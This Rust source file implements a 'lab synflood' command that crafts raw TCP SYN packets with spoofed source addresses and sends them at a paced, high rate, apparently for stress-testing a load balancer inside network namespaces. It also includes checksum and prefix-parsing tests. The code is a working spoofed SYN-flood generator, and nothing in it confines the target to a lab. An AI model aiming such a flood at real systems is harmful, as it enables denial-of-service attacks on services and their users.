//! `rvs lab synflood`: a spoofed TCP SYN flood for the lab (issue 17). IPv4 SYNs from random
//! addresses of a prefix and random ports, paced at a given rate, for a bounded time, on a raw
//! socket (`IPPROTO_RAW`). For namespaces only: the sources are spoofed, so the lab must route
//! the answers to them back into itself (a blackhole route for the prefix on the director).

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

use rvs_packet::checksum;

/// Options of `rvs lab synflood`.
#[derive(clap::Args, Debug, Clone)]
pub struct SynFloodOptions {
    /// Target (IPv4 address and port, usually a VIP).
    #[arg(long)]
    pub dst: SocketAddr,
    /// Spoofed sources: random addresses of this IPv4 prefix.
    #[arg(long, default_value = "10.200.0.0/16")]
    pub src_prefix: String,
    /// SYNs per second.
    #[arg(long, default_value_t = 40_000)]
    pub rate: u32,
    /// How long to send (at most 600 s).
    #[arg(long, default_value_t = 5.0)]
    pub seconds: f64,
    /// Seed of the sources, ports and sequence numbers.
    #[arg(long, default_value_t = 1)]
    pub seed: u64,
}

/// An IPv4 prefix `a.b.c.d/len`.
pub fn parse_prefix(s: &str) -> Option<(Ipv4Addr, u8)> {
    let (a, l) = s.split_once('/')?;
    let a: Ipv4Addr = a.parse().ok()?;
    let l: u8 = l.parse().ok()?;
    (l <= 32).then_some((a, l))
}

/// Writes a 40-byte IPv4 TCP SYN from `src` to `dst` into `pkt`, checksums included.
pub fn build_syn(pkt: &mut [u8; 40], src: (Ipv4Addr, u16), dst: (Ipv4Addr, u16), seq: u32) {
    pkt.fill(0);
    pkt[0] = 0x45;
    pkt[2..4].copy_from_slice(&40u16.to_be_bytes());
    pkt[6] = 0x40; // DF
    pkt[8] = 64;
    pkt[9] = 6;
    pkt[12..16].copy_from_slice(&src.0.octets());
    pkt[16..20].copy_from_slice(&dst.0.octets());
    let ip = checksum::ipv4_header(&pkt[..20]);
    pkt[10..12].copy_from_slice(&ip.to_be_bytes());
    let t = &mut pkt[20..40];
    t[0..2].copy_from_slice(&src.1.to_be_bytes());
    t[2..4].copy_from_slice(&dst.1.to_be_bytes());
    t[4..8].copy_from_slice(&seq.to_be_bytes());
    t[12] = 5 << 4;
    t[13] = 0x02; // SYN
    t[14..16].copy_from_slice(&64240u16.to_be_bytes());
    let sum = checksum::combine(&[
        checksum::pseudo_header_v4(src.0, dst.0, 6, 20),
        checksum::data(t),
    ]);
    t[16..18].copy_from_slice(&checksum::finish(sum).to_be_bytes());
}

/// Sends the flood; prints `sent N SYNs in S s (R/s), E errors`; returns the status.
pub fn run(o: &SynFloodOptions) -> i32 {
    let (IpAddr::V4(dip), dport) = (o.dst.ip(), o.dst.port()) else {
        eprintln!("rvs lab synflood: --dst must be an IPv4 address");
        return 2;
    };
    let Some((net, len)) = parse_prefix(&o.src_prefix) else {
        eprintln!(
            "rvs lab synflood: --src-prefix {:?} is not an IPv4 prefix",
            o.src_prefix
        );
        return 2;
    };
    let sock = match crate::sys::raw_socket(libc::AF_INET, libc::IPPROTO_RAW) {
        Ok(s) => s,
        Err(e) => {
            eprintln!("rvs lab synflood: raw socket: {e} (needs CAP_NET_RAW)");
            return 1;
        }
    };
    let host_bits = 32 - len as u32;
    let base = u32::from(net) & !((1u64 << host_bits) as u32).wrapping_sub(1);
    let mut x = o.seed | 1;
    let mut rnd = move || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    let rate = o.rate.clamp(1, 10_000_000) as f64;
    let limit = Duration::from_secs_f64(o.seconds.clamp(0.01, 600.0));
    let start = Instant::now();
    let (mut sent, mut errors) = (0u64, 0u64);
    let mut pkt = [0u8; 40];
    let target = IpAddr::V4(dip);
    loop {
        let elapsed = start.elapsed();
        if elapsed >= limit {
            break;
        }
        // Paced: send what is due by now, then sleep a millisecond.
        let due = (elapsed.as_secs_f64() * rate) as u64;
        while sent + errors < due {
            let r = rnd();
            let host = if host_bits == 0 {
                0
            } else {
                (r as u32) & (((1u64 << host_bits) - 1) as u32)
            };
            let src = Ipv4Addr::from(base | host);
            let sport = 1024 + ((r >> 32) as u16 % 64_000);
            build_syn(&mut pkt, (src, sport), (dip, dport), (r >> 16) as u32);
            match crate::sys::raw_send(sock.as_raw_fd(), &pkt, target) {
                Ok(()) => sent += 1,
                Err(_) => errors += 1,
            }
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    let secs = start.elapsed().as_secs_f64();
    println!(
        "sent {sent} SYNs in {secs:.2} s ({:.0}/s), {errors} errors",
        sent as f64 / secs
    );
    0
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn syn_parses_with_valid_checksums() {
        let mut p = [0u8; 40];
        build_syn(
            &mut p,
            (Ipv4Addr::new(10, 200, 3, 4), 4000),
            (Ipv4Addr::new(10, 0, 0, 100), 80),
            7,
        );
        assert!(rvs_packet::verify_checksums(&p));
        let m = rvs_packet::PacketMeta::parse(&p).unwrap();
        assert_eq!(m.sport, 4000);
        assert_eq!(m.dport, 80);
        assert!(m.tcp_flags().unwrap().syn());
    }

    #[test]
    fn prefixes() {
        assert_eq!(
            parse_prefix("10.200.0.0/16"),
            Some((Ipv4Addr::new(10, 200, 0, 0), 16))
        );
        assert_eq!(parse_prefix("10.200.0.0/33"), None);
        assert_eq!(parse_prefix("nonsense"), None);
    }
}
